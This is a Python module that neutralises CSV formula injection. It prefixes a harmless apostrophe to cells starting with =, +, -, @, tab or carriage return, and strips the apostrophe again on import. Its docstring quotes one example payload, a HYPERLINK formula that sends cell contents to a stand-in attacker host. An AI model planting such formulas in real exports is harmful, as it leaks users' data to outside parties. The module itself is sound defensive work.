"""CSV injection: a cell whose text starts with = + - @, a tab or a carriage return is run as a
formula by Excel, LibreOffice and Google Sheets when the .csv file is opened (OWASP, "CSV
Injection"), so a record text like `=HYPERLINK("http://evil.example/?"&A1, "Details")` in an
export would act on the reader's machine. The export writes such a cell with a leading
apostrophe, which spreadsheets take as "this is text" and do not show; the CSV reader removes
it again, so an export reads back as exactly the records it was made from.

The two are inverse on every text. `neutralise` adds one apostrophe to a cell matching
^'*[=+\\-@\\t\\r] (a text that already starts with apostrophes before such a character gets one
more); `restore` removes one from a cell matching ^'+[=+\\-@\\t\\r], the same set minus the
texts without a leading apostrophe, which `neutralise` never writes. A plain number (-5, +2.5)
is left as written: a spreadsheet reads it as a number, never as a formula, and the number
columns stay numbers. A CB's own CSV export neutralised the same way reads correctly too.
"""
from __future__ import annotations

import re

_TRIGGERED = re.compile(r"'*[=+\-@\t\r]")
_NEUTRALISED = re.compile(r"'+[=+\-@\t\r]")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")


def neutralise(cell):
    """The cell as the CSV export writes it."""
    if isinstance(cell, str) and _TRIGGERED.match(cell) and not _PLAIN_NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def restore(cell: str) -> str:
    """The cell as the CSV reader hands it on: what `neutralise` was given."""
    return cell[1:] if _NEUTRALISED.match(cell) else cell
